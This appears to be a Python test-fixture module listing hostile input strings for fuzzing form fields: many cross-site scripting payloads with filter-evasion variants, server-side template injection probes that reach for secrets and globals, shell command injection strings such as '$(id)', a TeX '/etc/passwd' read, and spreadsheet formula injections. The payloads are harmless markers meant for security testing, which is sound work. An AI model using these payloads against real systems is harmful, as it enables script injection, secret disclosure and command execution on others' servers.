"""Hostile texts: what attackers type into fields, by the engine they aim at.

A script that runs calls ``pwn()``; a template that is evaluated shows ``PROOF`` instead of itself.
"""

from __future__ import annotations

from collections.abc import Sequence
from itertools import cycle, islice, product

CALL = "pwn()"
_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script\n>{CALL}//",
    f"<<script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script src=data:,{CALL}></script>",
    f"<script>/*<![CDATA[*/{CALL}/*]]>*/</script>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}">',
    f"<img/src='x'/onerror='{CALL}'>",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    "<img src=data:, onerror=&#112;wn()>",
    "<img src=x:x onerror=&#x70;wn&lpar;&rpar;>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributename=x>",
    f'<svg><a xlink:href="javascript:{CALL}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<math><mi><img src=x onerror={CALL}></mi></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">',
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<style onload={CALL}></style>",
    f"<link rel=stylesheet href=data:text/css, onload={CALL}>",
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    f"<base href=javascript:/a/-{CALL}//>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button form=x formaction=javascript:{CALL}>x</button>",
    f"<div style=animation-name:x onanimationstart={CALL}>x</div>",
    f"<p hx-on:load={CALL} hx-trigger=load hx-get=/>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><img src=x onerror={CALL}></template>",
)
_BREAKERS = (
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</style><img src=x onerror={CALL}>",
    f'" onmouseover={CALL} autofocus onfocus={CALL} x="',
    f"' onfocus={CALL} autofocus tabindex=1 '",
    f"` onfocus={CALL} autofocus `",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>parent.{CALL}</script>",
    f"';{CALL}//",
    f'";{CALL}//',
    f'\\";{CALL}//',
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"[x](javascript:{CALL})",
    f'![x](x"onerror="{CALL})',
    f"<javascript:{CALL}>",
    f"＜script＞{CALL}＜/script＞",
    f"\u2028</script><script>{CALL}</script>",
)
_CONTEXTS = ("", '">', "'>", "</title>", "</textarea>", "<!--", "--!>", "x\x0b")
XSS: tuple[str, ...] = (*_ELEMENTS, *_BREAKERS)
"""Over 60, for every run."""
XSS_LONG: tuple[str, ...] = tuple(dict.fromkeys([*XSS, *(a + b for a, b in product(_CONTEXTS, _ELEMENTS))]))[:400]
"""Each element in each context."""

SUM = "9109*9973"
PROOF = str(9109 * 9973)
_BRACES = (
    "{{%s}}",
    "{{ %s }}",
    "${%s}",
    "#{%s}",
    "*{%s}",
    "@{%s}",
    "~{%s}",
    "<%%= %s %%>",
    "<%% print(%s) %%>",
    "{%% raw %%}{{%s}}",
    "{%s}",
    "{{{%s}}}",
    "[[%s]]",
    "[%% %s %%]",
    "{@%s}",
    "{#%s}",
    "$!{%s}",
    "#set($x=%s)$x",
    "{php}echo %s;{/php}",
    "<#assign x=%s>${x}",
    "@(%s)",
    "@{ %s }",
    '<c:out value="${%s}"/>',
    "{{= %s }}",
    "{{! %s }}",
    "(%s)",
    "`%s`",
    "$(expr %s)",
    "${{%s}}",
    "#{ %s }",
)
_DJANGO = (
    "{%% load static %%}",
    "{%% debug %%}",
    "{%% include 'base.html' %%}",
    "{%% csrf_token %%}",
    "{%% now 'Y' %%}",
    "{%% widthratio 91 1 97 %%}",
    "{%% firstof request.user %%}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{{ form.media }}",
    "{{ ''|add:'%(x)s' }}",
    "{%% autoescape off %%}<b>{%% endautoescape %%}",
    "{%% comment %%}",
    "{{ self.__init__.__globals__ }}",
    "{{ config }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ ''.__class__.__mro__ }}",
)
_FORMAT = (
    "%s",
    "%d",
    "%(title)s",
    "%(number)s",
    "%n",
    "%x%x%x",
    "%%",
    "{0}",
    "{}",
    "{number}",
    "{title}",
    "{state}",
    "{link}",
    "{0.__class__}",
    "{actor.__class__.__mro__}",
    "{number!r:>1000}",
    "{title:0>9999}",
    "{{number}}",
    "}{",
    "{",
    "}",
    "{ number }",
    "$number",
    "${number}",
    "$$",
    "#{number}",
    "%NUMBER%",
    "&number;",
    "&#123;number&#125;",
    "<%= number %>",
    "{number.title}",
)
_SHELL = (
    "$(id)",
    "`id`",
    "|id",
    ";id",
    "&& id",
    "${IFS}id",
    "%0aid",
    f"\\u007b\\u007b{SUM}\\u007d\\u007d",
    "#include <x>",
    '#import "x"',
    '#eval("9109*9973")',
    "#text(red)[x]",
    "$ sum_x $",
    "@label",
    "#sys.inputs",
    "<!--#exec cmd=id -->",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "=cmd|'/c calc'!A0",
    "{{7*'7'}}",
    "T(java.lang.Runtime)",
    "*_bold_*",
)
TEMPLATES: tuple[str, ...] = (
    *(each % SUM for each in _BRACES),
    *(each.replace("%%", "%") for each in _DJANGO),
    *_FORMAT,
    *_SHELL,
)
"""For Django, Jinja, ERB, JSP, FreeMarker, Velocity, Razor, Smarty, Typst, TeX, shells, format strings, and our own."""

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "＝", "＋", "－", "＠", "﹦", "\0=")
_BLANKS = ("", " ", "\u00a0", "\u3000", "\u200b", "\ufeff")
FORMULAS: tuple[str, ...] = tuple(
    f"{blank}{lead}{text}"
    for (blank, lead), text in zip(
        product(_BLANKS, _LEADS),
        cycle(("1+1", 'HYPERLINK("http://x.example")', "cmd|'/c calc'!A0", "SUM(A1:A9)", 'WEBSERVICE("http://x")')),
        strict=False,
    )
)
"""Formula starts behind blanks, in every width; 90."""


def packed(texts: Sequence[str], longest: int) -> list[str]:
    """The texts joined into as few as fit into a field of this length; those that are longer alone are left out."""
    packs: list[str] = []
    now = ""
    for text in texts:
        if len(text) > longest:
            continue
        if len(now) + len(text) + 1 > longest:
            packs, now = [*packs, now], ""
        now = f"{now} {text}" if now else text
    return [*packs, now] if now else packs


def taken(packs: Sequence[str], at: int) -> str:
    """One of them, round and round."""
    return next(islice(cycle(packs), at % len(packs), None))
